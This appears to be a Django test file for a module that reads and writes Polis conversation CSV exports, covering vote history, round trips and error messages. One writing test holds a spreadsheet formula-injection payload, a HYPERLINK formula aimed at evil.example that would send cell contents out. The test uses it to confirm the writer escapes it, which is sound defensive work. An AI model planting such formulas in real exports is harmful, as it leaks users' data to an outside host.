"""Polis' CSV files read and written (``method/polis_io.py``): the real exports of two
conversations, their quirks (multi-line bodies, vote history, counts that do not match the
votes), files written back and read again, and files that cannot be read, each error naming
the file, the line and the column."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from django.test import SimpleTestCase

from entregent.method import polis_io
from entregent.method.polis_io import PolisFormatError

DATA = Path(__file__).parent / "data" / "polis"
CANADA = DATA / "canadian-electoral-reform"
FRESHWATER = DATA / "scoop-hivemind.freshwater"

COMMENTS_HEADER = (
    "timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body\n"
)
VOTES_HEADER = "timestamp,datetime,comment-id,voter-id,vote\n"


def text(folder: Path, name: str) -> str:
    return (folder / name).read_text(encoding="utf-8")


class RealExportsTests(SimpleTestCase):
    def test_every_comment_is_read_with_its_multi_line_body(self) -> None:
        comments = polis_io.read_comments(text(FRESHWATER, "comments.csv"))
        self.assertEqual(len(comments), 80)
        self.assertEqual([c.comment_id for c in comments], sorted(c.comment_id for c in comments))
        # 93 lines for a header and 80 comments: 12 bodies run over two lines (a newline
        # at their end, which the text does not keep).
        self.assertEqual(text(FRESHWATER, "comments.csv").count("\n"), 93)
        self.assertFalse([c for c in comments if c.body != c.body.strip()])
        self.assertEqual(sum(c.is_moderated_out for c in comments), 29)
        first = comments[0]
        self.assertEqual(first.comment_id, 0)
        self.assertIsInstance(first.timestamp, int)

    def test_the_latest_vote_of_each_voter_on_each_comment_counts(self) -> None:
        for folder in (CANADA, FRESHWATER):
            with self.subTest(folder.name):
                rows = polis_io.read_votes(text(folder, "votes.csv"))
                talk = polis_io.read_conversation(
                    text(folder, "comments.csv"), text(folder, "votes.csv")
                )
                self.assertLess(len(talk.votes), len(rows), "the file holds vote history")
                # Polis' own participants-votes.csv has exactly the latest votes.
                latest: dict[str, dict[int, int]] = {}
                for vote in talk.votes:
                    latest.setdefault(vote.voter_id, {})[vote.comment_id] = vote.vote
                table = polis_io.read_participants_votes(text(folder, "participants-votes.csv"))
                self.assertEqual({p.participant: p.votes for p in table}, latest)
                for row in table:
                    self.assertEqual(row.n_votes, len(row.votes))

    def test_counts_come_from_the_votes_not_from_the_comments_file(self) -> None:
        talk = polis_io.read_conversation(text(CANADA, "comments.csv"), text(CANADA, "votes.csv"))
        counts = talk.counts()
        stated = {c.comment_id: c.agrees for c in talk.comments}
        self.assertTrue(any(stated[cid] != counts[cid][0] for cid in counts))
        agrees = sum(1 for v in talk.votes if v.comment_id == 0 and v.vote == 1)
        self.assertEqual(counts[0][0], agrees)

    def test_statements_moderated_out_are_left_out_of_the_matrix(self) -> None:
        talk = polis_io.read_conversation(text(CANADA, "comments.csv"), text(CANADA, "votes.csv"))
        matrix = talk.matrix()
        out = {c.comment_id for c in talk.comments if c.is_moderated_out}
        self.assertEqual(len(out), 22)
        self.assertFalse(out & set(matrix.statements))
        self.assertEqual(len(matrix.statements), 174 - 22)


class HistoryTests(SimpleTestCase):
    def test_the_greatest_timestamp_wins_wherever_it_is_in_the_file(self) -> None:
        votes = polis_io.read_votes(
            VOTES_HEADER
            + "2000,,0,7,-1\n"  # the latest, first in the file
            + "1000,,0,7,1\n"
            + "1500,,0,8,1\n"
        )
        latest = {(v.voter_id, v.comment_id): v.vote for v in polis_io.latest_votes(votes)}
        self.assertEqual(latest, {("7", 0): -1, ("8", 0): 1})

    def test_without_timestamps_the_later_line_wins(self) -> None:
        votes = polis_io.read_votes("comment-id,voter-id,vote\n0,7,1\n0,7,0\n")
        self.assertEqual([v.vote for v in polis_io.latest_votes(votes)], [0])


class WritingTests(SimpleTestCase):
    at = dt.datetime(2017, 1, 9, 3, 43, 41, tzinfo=dt.UTC)

    def test_polis_datetime_is_written_as_polis_writes_it(self) -> None:
        self.assertEqual(polis_io.polis_datetime(self.at), "Mon Jan 09 03:43:41 UTC 2017")
        self.assertEqual(polis_io.milliseconds(self.at), 1483933421000)

    def test_written_files_read_back_the_same(self) -> None:
        comments = [
            polis_io.CommentRow(
                comment_id=3,
                author_id="0",
                body='A body, with "quotes"\nand a second line.',
                moderated=1,
                created_at=self.at,
                agrees=1,
                disagrees=0,
            ),
            polis_io.CommentRow(
                comment_id=5,
                author_id="1",
                body="Held for review.",
                moderated=0,
                created_at=self.at + dt.timedelta(minutes=1),
                agrees=0,
                disagrees=1,
            ),
        ]
        votes = [
            polis_io.VoteRow(comment_id=3, voter_id="1", vote=1, at=self.at),
            polis_io.VoteRow(comment_id=5, voter_id="0", vote=-1, at=self.at),
            polis_io.VoteRow(comment_id=5, voter_id="2", vote=0, at=self.at),
        ]
        read = polis_io.read_comments(polis_io.write_comments(comments))
        self.assertEqual(
            [(c.comment_id, c.author_id, c.body, c.moderated, c.agrees) for c in read],
            [(3, "0", comments[0].body, 1, 1), (5, "1", "Held for review.", 0, 0)],
        )
        self.assertEqual(read[0].timestamp, 1483933421000)
        back = polis_io.read_votes(polis_io.write_votes(votes))
        self.assertEqual(
            sorted((v.comment_id, v.voter_id, v.vote) for v in back),
            [(3, "1", 1), (5, "0", -1), (5, "2", 0)],
        )
        table = polis_io.read_participants_votes(
            polis_io.write_participants_votes(["0", "1", "2"], comments, votes, {"0": 1})
        )
        self.assertEqual(
            [(p.participant, p.group_id, p.n_comments, p.n_votes, p.votes) for p in table],
            [
                ("0", 1, 1, 1, {5: -1}),
                ("1", None, 1, 1, {3: 1}),
                ("2", None, 0, 1, {5: 0}),
            ],
        )

    def test_a_text_a_spreadsheet_would_run_is_written_as_text_and_reads_back(self) -> None:
        formula = '=HYPERLINK("http://evil.example/?"&A1)'
        row = polis_io.CommentRow(
            comment_id=1,
            author_id="0",
            body=formula,
            moderated=0,
            created_at=self.at,
            agrees=0,
            disagrees=0,
        )
        written = polis_io.write_comments([row])
        self.assertIn("'=HYPERLINK", written)
        self.assertEqual(polis_io.read_comments(written)[0].body, formula)

    def test_the_header_is_polis_own(self) -> None:
        self.assertTrue(polis_io.write_comments([]).startswith(COMMENTS_HEADER))
        self.assertTrue(polis_io.write_votes([]).startswith(VOTES_HEADER))
        self.assertEqual(
            polis_io.write_participants_votes([], [], []),
            "participant,group-id,n-comments,n-votes,n-agree,n-disagree\n",
        )


class BadFilesTests(SimpleTestCase):
    def assertError(
        self, error: PolisFormatError, file: str, line: int | None, column: str | None = None
    ) -> None:
        self.assertEqual((error.file, error.line, error.column), (file, line, column))
        self.assertTrue(str(error).startswith(file))

    def test_a_missing_column_is_named_with_what_the_header_has(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_comments(text(FRESHWATER, "votes.csv"))
        self.assertError(caught.exception, "comments.csv", 1)
        self.assertIn("author-id, comment-body", str(caught.exception))
        self.assertIn("voter-id", str(caught.exception))

    def test_a_vote_that_is_not_one_of_three_values_names_its_line_and_column(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_votes(VOTES_HEADER + "1,,0,7,1\n2,,0,8,2\n")
        self.assertError(caught.exception, "votes.csv", 3, "vote")
        self.assertEqual(
            str(caught.exception),
            "votes.csv, line 3, column vote: 2 is not 1 (agree), -1 (disagree) or 0 (pass).",
        )
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_votes(VOTES_HEADER + "1,,0,seven,yes\n")
        self.assertError(caught.exception, "votes.csv", 2, "vote")

    def test_line_numbers_count_the_lines_of_multi_line_bodies(self) -> None:
        body = '1,,0,4,0,0,1,"First line\nsecond line\nthird"\n'
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_comments(COMMENTS_HEADER + body + "2,,x,4,0,0,1,Next\n")
        self.assertError(caught.exception, "comments.csv", 5, "comment-id")

    def test_a_row_with_too_few_fields_is_refused(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_votes(VOTES_HEADER + "1,,0,7\n")
        self.assertError(caught.exception, "votes.csv", 2)
        self.assertIn("4 fields where the header has 5", str(caught.exception))

    def test_a_comment_listed_twice_is_refused(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_comments(COMMENTS_HEADER + "1,,0,4,0,0,1,A\n2,,0,4,0,0,1,B\n")
        self.assertError(caught.exception, "comments.csv", 3, "comment-id")

    def test_a_moderation_value_out_of_range_and_an_empty_body_are_refused(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_comments(COMMENTS_HEADER + "1,,0,4,0,0,3,A\n")
        self.assertError(caught.exception, "comments.csv", 2, "moderated")
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_comments(COMMENTS_HEADER + "1,,0,4,0,0,1,  \n")
        self.assertError(caught.exception, "comments.csv", 2, "comment-body")
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_comments(COMMENTS_HEADER + "1,,0,,0,0,1,A\n")
        self.assertError(caught.exception, "comments.csv", 2, "author-id")

    def test_a_vote_on_a_comment_the_comments_file_lacks_names_the_votes_line(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_conversation(
                COMMENTS_HEADER + "1,,0,4,0,0,1,A\n",
                VOTES_HEADER + "1,,0,7,1\n2,,9,7,1\n",
            )
        self.assertError(caught.exception, "votes.csv", 3, "comment-id")
        self.assertIn("comment 9 is not in comments.csv", str(caught.exception))

    def test_empty_files_and_files_without_comments_are_refused(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_votes("")
        self.assertError(caught.exception, "votes.csv", None)
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_conversation(COMMENTS_HEADER, VOTES_HEADER)
        self.assertError(caught.exception, "comments.csv", None)

    def test_text_that_is_not_utf8_is_refused_and_a_bom_is_not(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.decode("comment-id;café".encode("latin-1"), "comments.csv")
        self.assertError(caught.exception, "comments.csv", None)
        self.assertIn("byte 15", str(caught.exception))
        decoded = polis_io.decode(("\ufeff" + VOTES_HEADER).encode(), "votes.csv")
        self.assertEqual(polis_io.read_votes(decoded), [])

    def test_a_participants_table_with_an_unknown_column_is_refused(self) -> None:
        with self.assertRaises(PolisFormatError) as caught:
            polis_io.read_participants_votes("participant,group-id,colour\n1,,blue\n")
        self.assertError(caught.exception, "participants-votes.csv", 1)
        rows = polis_io.read_participants_votes("participant,xid,group-id,0\n4,abc,,1\n")
        self.assertEqual((rows[0].xid, rows[0].group_id, rows[0].votes), ("abc", None, {0: 1}))
